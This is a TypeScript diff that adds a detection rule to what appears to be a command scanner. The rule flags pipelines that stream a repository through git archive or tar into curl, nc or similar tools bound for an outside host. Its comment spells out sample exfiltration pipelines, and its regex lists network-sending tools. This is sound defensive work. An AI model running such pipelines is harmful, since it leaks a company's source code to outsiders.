@@ -725,6 +725,18 @@ function personalDataCopiedOut(cmds: readonly Cmd[]): Finding[] {
         continue;
       }
     }
+    // (lead18) The repository's own files streamed to a host by a network sender (git archive HEAD | base64 | curl --data-binary
+    // @- https://…, tar c . | nc host 9000): the company's source leaves for a host nothing says is its own.
+    if (/^(?:curl|wget|http|https|xh|nc|ncat|netcat|socat)$/.test(c.name) && c.pipeIn) {
+      let p: Cmd | null = c.pipeIn;
+      let src = false;
+      for (let i = 0; p && i < 6; i++, p = p.pipeIn) if ((p.name === 'git' && p.args[0] === 'archive') || (/^(?:tar|bsdtar|zip|7z)$/.test(p.name) && p.args.some((x) => x === '.' || x === './' || /^(?:src|lib|app)\/?$/.test(x)))) src = true;
+      const host = /https?:\/\/([^/\s:]+)/.exec(c.text)?.[1] ?? positionals(c.args)[0] ?? '';
+      if (src && host && !/^(?:localhost|127\.|\[::1\])/.test(host) && !/\.(?:internal|corp|lan|local)$/.test(host)) {
+        out.push(f('dangerous', `sends the repository's files to ${snippet(host, 40)}, outside the company (${snippet(c.text, 50)})`));
+        continue;
+      }
+    }
     // cls-holes14: a consumer cloud drive's own CLI (dbxcli put, mega-put, megacopy, dropbox_uploader.sh upload): the
     // destination is that service's account, outside the company, whatever path it is given.
     const drive = DRIVE_CLI.get(c.name);
